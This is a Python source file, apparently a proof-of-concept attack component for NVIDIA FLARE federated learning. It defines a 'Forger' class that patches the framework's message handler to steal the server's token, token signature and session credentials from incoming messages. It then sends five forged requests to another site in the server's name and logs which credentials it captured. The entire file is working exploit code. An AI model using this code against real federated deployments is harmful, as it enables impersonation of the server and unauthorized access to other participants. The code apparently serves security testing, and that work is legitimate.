"""A part of a dishonest site, which speaks to another site in the server's name.

It has the server's credentials: FLARE's server hands them out with every message.
"""

from __future__ import annotations

import threading
import time
import uuid
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext
from nvflare.fuel.f3.cellnet.core_cell import CoreCell
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey, MessageType
from nvflare.fuel.f3.message import Message
from nvflare.private.defs import CellMessageHeaderKeys

CREDENTIALS = (
    CellMessageHeaderKeys.CLIENT_NAME,
    CellMessageHeaderKeys.TOKEN,
    CellMessageHeaderKeys.TOKEN_SIGNATURE,
    CellMessageHeaderKeys.SSID,
)
COUNT = 5


class Forger(FLComponent):
    """Sends a few such messages, and then says so in a file."""

    def __init__(self, target: str, origin: str, out: str) -> None:
        super().__init__()
        self._target, self._origin, self._out = target, origin, Path(out)
        self._credentials: dict[str, object] = {}

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if event_type == EventType.SYSTEM_START:
            self._listen()
            threading.Thread(target=self._try, args=(fl_ctx.get_engine(),), daemon=True).start()

    def _listen(self) -> None:
        plain = CoreCell._process_received_msg

        def process(cell, endpoint, connection, message):
            if message.get_header(CellMessageHeaderKeys.CLIENT_NAME) == "server":
                self._credentials = {key: message.get_header(key) for key in CREDENTIALS}
            plain(cell, endpoint, connection, message)

        CoreCell._process_received_msg = process

    def _try(self, engine) -> None:
        while not self._credentials:
            time.sleep(0.2)
        for _ in range(COUNT):
            self._forge(engine.get_cell().core_cell)
            time.sleep(0.5)
        self._out.write_text(str(sorted(self._credentials)))

    def _forge(self, cell: CoreCell) -> None:
        headers = {
            MessageHeaderKey.MSG_TYPE: MessageType.REQ,
            MessageHeaderKey.REQ_ID: str(uuid.uuid4()),
            MessageHeaderKey.REPLY_EXPECTED: True,
            MessageHeaderKey.ORIGIN: self._origin,
            MessageHeaderKey.DESTINATION: self._target,
            MessageHeaderKey.FROM_CELL: cell.my_info.fqcn,
            MessageHeaderKey.TO_CELL: "server",
            MessageHeaderKey.CHANNEL: "any",
            MessageHeaderKey.TOPIC: "any",
        }
        cell.communicator.send(
            cell.agents["server"].endpoint, CoreCell.APP_ID, Message(headers | self._credentials, b"")
        )
